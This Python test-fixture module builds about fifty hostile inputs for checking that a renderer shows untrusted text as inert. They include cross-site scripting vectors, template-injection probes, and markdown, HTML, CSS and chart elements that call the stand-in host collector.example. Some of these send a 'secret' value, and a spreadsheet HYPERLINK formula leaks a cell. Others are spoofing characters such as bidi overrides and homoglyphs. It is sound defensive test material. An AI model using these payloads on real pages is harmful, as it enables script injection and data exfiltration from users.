"""Fifty texts that try to run scripts, to call other hosts, to hide, or to break the page.

They stand wherever people or models can write: answers, prompts, dataset cells, names, reasons.
Shown, each is to be text and nothing else: no request leaves for `HOST`, `MARKER` is never set, and
the page can still be used.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

__all__ = ["HOST", "HUGE", "MARKER", "PAYLOADS"]

HOST: Final = "collector.example"
"""Whom the payloads call; no request may name it."""

MARKER: Final = "__ran"
"""What a script of theirs sets on `window`."""

_RUN = f"window.{MARKER}=1"
_IMAGE = f"https://{HOST}/pixel.png?secret=42"

HUGE: Final = "All work and no play. " * 47_663
"""A megabyte on one line."""

_SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f'<script src="https://{HOST}/run.js"></script>',
    "script split by a comment": f"<scr<!-- -->ipt>{_RUN}</scr<!-- -->ipt>",
    "module script": f'<script type="module">import "https://{HOST}/run.mjs"; {_RUN}</script>',
    "image error": f'<img src="x" onerror="{_RUN}">',
    "svg load": f'<svg onload="{_RUN}"><circle r="9"/></svg>',
    "svg script": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_RUN}</script></svg>',
    "focus handler": f'<input autofocus onfocus="{_RUN}">',
    "details toggle": f'<details open ontoggle="{_RUN}"><summary>more</summary></details>',
    "video error": f'<video><source onerror="{_RUN}"></video>',
    "math namespace": f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    "escape from an attribute": f'" onmouseover="{_RUN}" x="',
    "escape from a text area": f"</textarea><script>{_RUN}</script>",
    "escape from a title": f"</title><script>{_RUN}</script>",
    "escape from JSON": f'</script><script>{_RUN}</script>{{"a":"\\u003cscript>"}}',
    "javascript link": f"[Open the report](javascript:{_RUN})",
    "javascript link in capitals": f"[Open](JaVaScRiPt&colon;{_RUN})",
    "javascript auto link": f"<javascript:{_RUN}>",
    "data link": f"[Open](data:text/html,<script>parent.{MARKER}=1</script>)",
    "template syntax": "{{ 7 * 7 }} ${7*7} <%= 7*7 %> #{7*7} {% raw %} {{ constructor.constructor('"
    + _RUN
    + "')() }}",
}
_REQUESTS = {
    "image": f"![a diagram]({_IMAGE})",
    "image by reference": f"![a diagram][d]\n\n[d]: {_IMAGE}",
    "image by collapsed reference": f"![d]\n\n[d]: <{_IMAGE}>",
    "image in a link": f"[![a diagram]({_IMAGE})](https://{HOST}/)",
    "image in HTML": f'<img src="{_IMAGE}" srcset="{_IMAGE} 2x">',
    "image in a table": f"| a | b |\n|---|---|\n| ![x]({_IMAGE}) | 1 |",
    "footnote with an image": f"See[^1].\n\n[^1]: ![x]({_IMAGE})",
    "style sheet": f'<link rel="stylesheet" href="https://{HOST}/s.css">',
    "style with an address": f"<style>body{{background:url({_IMAGE})}}</style>",
    "style import": f'<style>@import "https://{HOST}/s.css";</style>',
    "style attribute": f'<div style="position:fixed;inset:0;background:url({_IMAGE})">gone</div>',
    "frame": f'<iframe src="https://{HOST}/frame.html"></iframe>',
    "object": f'<object data="https://{HOST}/o.swf"></object><embed src="https://{HOST}/e">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    "form": f'<form action="https://{HOST}/"><button>Continue</button></form>',
    "svg image": f'<svg><image href="{_IMAGE}"/><use href="https://{HOST}/u.svg#a"/></svg>',
    "addresses": f"https://{HOST}/a www.{HOST}/b mail@{HOST} <https://{HOST}/c> //{HOST}/d",
    "mathematics": f"$\\href{{https://{HOST}/}}{{x}} \\includegraphics{{{_IMAGE}}}$ "
    "$$\\frac{1}{2}$$",
    "diagram": f'```mermaid\ngraph LR; a-->b; click a "https://{HOST}/"\n```',
    "chart specification": f'{{"$schema":"x","data":{{"url":"https://{HOST}/d.json"}},"mark":"image",'
    f'"encoding":{{"url":{{"value":"{_IMAGE}"}},"href":{{"value":"https://{HOST}/"}}}}}}',
    "chart tooltip": f'{{"title":"x","image":"{_IMAGE}"}}',
    "chart expression": f"datum['a'] + (1, window) && {_RUN}; a.b[0]\\.c:Q",
}
_DECEPTIONS = {
    "directives": ":red[stop] :blue-background[x] :material/home: :material_home: :streamlit: "
    ":smile: :rainbow[done] :green-badge[superior] -> -- >= $5$",
    "headings": "# A heading\n\n> quoted\n\n1. one\n2. two\n\n- item\n\n---\n\n    code\n\n"
    "`ticks``` ~~gone~~",
    "right to left": "invoice\u202efdp.exe \u2066evil\u2069 \u0627\u0644\u0633\u0644\u0627\u0645 "
    "12 \u05e9\u05dc\u05d5\u05dd",
    "zero width": "pay\u200bpal\u200d\u2060\ufeff.example \U000e0041\U000e0042\U000e0043 "
    "a\ufe01\ufe02\ufe03\u00adb",
    "homoglyphs": "p\u0430yp\u0430l \u2014 \U0001d42c\U0001d41e\U0001d41c\U0001d42e\U0001d42b "
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b a\u0336l\u0336g",
    "terminal escapes": f"\x1b[31mred\x1b[0m \x1b]8;;https://{HOST}\x07link\x1b]8;;\x07 "
    "\x07\x08\x7f",
    "formula": f'=HYPERLINK("https://{HOST}/?q="&A1,"Open")',
}

PAYLOADS: Final[Mapping[str, str]] = MappingProxyType(
    {**_SCRIPTS, **_REQUESTS, **_DECEPTIONS, "huge": HUGE}
)
"""Every payload by its name."""
